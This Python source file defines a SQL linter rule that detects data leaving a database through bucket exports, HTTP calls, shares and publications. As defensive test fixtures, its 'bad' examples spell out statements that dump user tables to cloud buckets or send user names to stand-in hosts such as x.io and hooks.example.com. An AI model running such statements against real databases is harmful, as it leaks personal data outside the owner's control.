"""The rule `data-sent-out`."""

from __future__ import annotations

from collections.abc import Iterator

from guardrail.context import Context
from guardrail.effects import NetworkUse, ObjectKind, PrivilegeChange, SchemaChange, Verb
from guardrail.example import sql
from guardrail.model import Category, Finding, Level
from guardrail.names import same
from guardrail.patterns import late
from guardrail.rule import Only, Rule
from guardrail.spanmap import HOLE_WORD
from guardrail_rules.circumstances import in_migration, named, weighed

_BUCKET = late(r"(?:s3a?|gs|gcs|abfss?|wasbs?|azure|r2)://")
"""How places of one's own in a cloud are given to databases."""


class DataSentOut(Rule):
    """SQL sends rows out of the database: to a bucket, a URL, another account.

    ## Why it matters

    Once they are there, other rules decide who reads them, and nothing takes them back: the
    bucket's policy, the receiver's account, a log of requests.

    ## Do this instead

    Name only the columns and rows that have to leave, send them to a place whose access is kept in
    the same repository, and let the export be a job with a role of its own rather than a migration.
    """

    name = "data-sent-out"
    category = Category.EXPOSURE
    level = Level.WARNING
    judges = (NetworkUse, SchemaChange, PrivilegeChange)
    only = (
        Only(SchemaChange, kinds=(ObjectKind.OTHER,)),
        Only(PrivilegeChange, verbs=(Verb.GRANT,)),
    )

    bad = (
        sql(
            "UNLOAD ('SELECT * FROM users') TO 's3://bucket/users' IAM_ROLE default",
            dialect="redshift",
        ),
        sql("COPY INTO 's3://bucket/users/' FROM users", dialect="snowflake"),
        sql("ALTER SHARE partner ADD ACCOUNTS = acme.other", dialect="snowflake"),
        sql(
            "EXPORT DATA OPTIONS (uri = 'gs://bucket/u-*.csv', format = 'CSV') "
            "AS SELECT * FROM shop.users",
            dialect="bigquery",
        ),
        sql(
            "INSERT INTO FUNCTION s3('https://b.s3.amazonaws.com/x.csv', 'CSV') "
            "SELECT * FROM users",
            dialect="clickhouse",
        ),
        sql("SELECT net.http_post('https://hooks.example.com', body := '{}'::jsonb)"),
        sql("SELECT UTL_HTTP.REQUEST('http://x.io/?' || name) FROM users", dialect="oracle"),
        sql("CREATE PUBLICATION everything FOR ALL TABLES"),
    )
    good = (
        sql("COPY users FROM 's3://bucket/users' IAM_ROLE default", dialect="redshift"),
        sql("COPY INTO users FROM 's3://bucket/users/'", dialect="snowflake"),
        sql(
            "INSERT INTO users SELECT * FROM s3('https://b.s3.amazonaws.com/x.csv', 'CSV')",
            dialect="clickhouse",
        ),
        sql("CREATE PUBLICATION orders FOR TABLE orders"),
        sql("CREATE STAGE s; COPY INTO @s FROM users", dialect="snowflake"),
        sql("COPY INTO @~/users FROM users", dialect="snowflake"),
        sql("COPY INTO users FROM @stage/users", dialect="snowflake"),
    )

    def judge(
        self, effect: NetworkUse | SchemaChange | PrivilegeChange, context: Context
    ) -> Iterator[Finding]:
        """Rows that leave, or a standing way for them to."""
        message, staged, configured = "", False, False
        if isinstance(effect, NetworkUse):
            if effect.language == "sql" and effect.sends:
                where = named(effect.host, "a place") if effect.host else "another place"
                # A stage with a name is the account's own, or a bucket anywhere: it isn't told.
                staged = effect.host.startswith("@")
                # Where what runs the program says where to: a bucket of its settings.
                configured = effect.hidden_in == "" and (
                    HOLE_WORD in effect.host or _is_export(effect, context)
                )
                where = f"the stage {effect.host}" if staged else where
                message = f"{', '.join(effect.sends)} goes to {where}"
        elif isinstance(effect, PrivilegeChange):
            shared = [name for name in effect.whom if name.startswith("share ")]
            if effect.verb is Verb.GRANT and shared:
                message = f"{effect.on or 'data'} goes into the {shared[0]}, to other accounts"
        elif effect.kind is ObjectKind.OTHER:
            message = _standing(effect)
        if message:
            standing = isinstance(effect, SchemaChange) and effect.options[:1] == ("stage",)
            if staged and isinstance(effect, NetworkUse):
                made = _maker(effect, context)
                if made is not None and "url" not in made.options:
                    return
                staged = made is None
            level = Level.INFO if standing or staged or configured else self.level
            yield from weighed(self, effect, context, message, level=level)


def _is_export(effect: NetworkUse, context: Context) -> bool:
    """Whether a program has DuckDB write files to a bucket: there is no server that they leave.

    A migration, or a statement in a script of its own, isn't there for that.
    """
    in_program = effect.span.path.endswith((".py", ".ipynb")) and bool(effect.via)
    in_program = in_program and context.database(effect).dialect == "duckdb"
    return in_program and _BUCKET.match(effect.host) is not None and not in_migration(context)


def _maker(effect: NetworkUse, context: Context) -> SchemaChange | None:
    """What made the stage that rows go to, earlier in the Unit."""
    name = effect.host.lstrip("@").partition("/")[0]
    stages = (
        made
        for made in context.before(effect)
        if isinstance(made, SchemaChange) and made.options[:1] == ("stage",)
    )
    return next((m for m in stages if m.verb is Verb.CREATE and same(m.name, name)), None)


def _standing(change: SchemaChange) -> str:
    """What a share or a publication opens, "" where it opens nothing."""
    options = change.options
    if change.verb is Verb.CREATE and "for all tables" in options:
        return f"the publication {change.name} sends every table there is and will be"
    if change.verb is Verb.CREATE and options[:1] == ("stage",) and "url" in options:
        return f"the stage {change.name} opens a place outside for loading and unloading"
    if options[:1] != ("share",):
        return ""
    if change.verb is Verb.CREATE:
        return f"the share {change.name} opens data to other accounts"
    adds = any(word in option for option in options for word in ("add account", "set account"))
    return f"the share {change.name} is opened to another account" if adds else ""
